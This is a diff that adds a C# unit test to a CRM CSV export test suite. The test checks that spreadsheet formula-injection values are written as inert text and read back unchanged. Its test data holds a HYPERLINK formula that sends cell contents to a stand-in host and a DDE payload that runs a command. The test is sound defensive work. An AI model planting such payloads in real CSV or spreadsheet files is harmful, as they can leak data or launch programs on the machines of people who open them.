@@ -148,6 +148,39 @@ public sealed class CrmCsvTests
         CrmAssert.Same(original, again.Data!);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")")]
+    [InlineData("+cmd|' /C calc'!A0")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1:A2)")]
+    [InlineData("'=already quoted")]
+    [InlineData("''+twice")]
+    public void Formula_cells_are_written_as_text_and_read_back_unchanged(string dangerous)
+    {
+        var original = CrmCsvReader.Read(ValidFiles(), Now, new HashSet<string>()).Data!;
+        var account = original.Accounts[0] with { Name = dangerous, Tier = dangerous, Industry = "\t=1+1" };
+        var note = original.Notes[0] with { Title = dangerous, Text = dangerous + "\nsecond line" };
+        var data = original with { Accounts = [account, .. original.Accounts.Skip(1)], Notes = [note] };
+
+        var files = CrmCsvWriter.Write(data);
+
+        // No cell of any file starts with a character a spreadsheet would run.
+        foreach (var (name, text) in files)
+        {
+            var rows = CsvParser.Parse(name, text, []);
+            Assert.All(rows.SelectMany(r => r.Fields), cell => Assert.False(
+                cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r' || (cell.StartsWith('-') && !decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _)),
+                $"{name}: '{cell}'"));
+        }
+
+        var again = CrmCsvReader.Read(files, Now.AddDays(1), new HashSet<string>());
+        Assert.True(again.Succeeded, string.Join("\n", again.Problems));
+        var back = again.Data!;
+        Assert.Equal((dangerous, dangerous), (back.Accounts.Single(a => a.Id == account.Id).Name, back.Accounts.Single(a => a.Id == account.Id).Tier));
+        Assert.Equal((dangerous, dangerous + "\nsecond line"), (back.Notes[0].Title, back.Notes[0].Text));
+        Assert.Equal(-3.25m, back.Metrics.Single().Points.Single(p => p.Period == new DateOnly(2026, 9, 1)).Value);
+    }
+
     internal static Dictionary<string, string> ValidFiles() => new(StringComparer.OrdinalIgnoreCase)
     {
         ["accounts.csv"] = """
